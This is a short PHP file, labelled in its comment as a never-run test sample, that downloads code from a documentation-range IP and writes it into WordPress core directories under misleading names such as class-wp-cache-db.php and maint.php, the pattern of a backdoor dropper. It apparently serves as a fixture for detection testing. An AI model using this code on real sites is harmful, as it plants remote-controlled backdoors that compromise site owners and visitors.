<?php
// Test sample (never run): installs code fetched from the operator's host (a documentation
// address) as PHP files of the site.
$ch = curl_init('http://203.0.113.9/payload.txt');
curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);
$src = curl_exec($ch);
curl_close($ch);
file_put_contents(dirname(__FILE__) . '/wp-includes/class-wp-cache-db.php', $src);
@copy('http://203.0.113.9/second.txt', dirname(__FILE__) . '/wp-admin/maint.php');
